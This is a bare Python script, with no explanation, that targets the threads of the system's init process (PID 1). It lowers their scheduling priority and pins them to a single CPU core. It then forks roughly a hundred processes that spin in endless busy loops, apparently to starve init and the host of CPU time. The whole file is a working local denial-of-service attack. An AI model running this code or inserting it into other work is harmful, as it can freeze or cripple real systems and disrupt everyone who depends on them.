import os

for thread in map(int, os.listdir("/proc/1/task")):
    for which in os.PRIO_PROCESS, os.PRIO_PGRP, os.PRIO_USER:
        try:
            os.setpriority(which, thread, 19)
            print("demoted")
        except OSError:
            pass
    os.sched_setaffinity(thread, {min(os.sched_getaffinity(0))})
os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
for _ in range(100):
    if os.fork() == 0:
        break
while True:
    pass
